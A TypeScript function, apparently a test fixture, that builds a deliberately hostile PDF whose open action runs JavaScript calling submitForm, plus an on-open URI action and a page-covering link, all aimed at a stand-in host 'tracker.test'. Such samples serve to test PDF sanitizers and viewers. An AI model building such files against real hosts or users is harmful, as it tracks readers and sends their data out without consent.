/**
 * A hostile PDF with a page for each text. It contains a script and a URL action that run on opening, and a link that covers each page.
 */
export function samplePdf(pages: readonly string[], asksFor = 'https://tracker.test/opened'): Buffer {
  const first = 4;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("${asksFor}"\\);) >> /AA << /O << /S /URI /URI (${asksFor}) >> >> >>`,
    `<< /Type /Pages /Count ${pages.length} /Kids [${pages.map((_, at) => `${first + 2 * at} 0 R`).join(' ')}] >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...pages.flatMap((text, at) => {
      const content = `BT /F1 24 Tf 20 100 Td (${text}) Tj ET 1 0 0 rg 0 0 200 50 re f`;
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << /Font << /F1 3 0 R >> >> /Contents ${first + 2 * at + 1} 0 R /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /URI /URI (${asksFor}) >> >>] >>`,
        `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
      ];
    }),
  ];
  let file = '%PDF-1.7\n';
  const offsets = objects.map((object, at) => {
    const offset = file.length;
    file += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  return Buffer.from(
    `${file}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${file.length}\n%%EOF\n`,
    'latin1',
  );
}
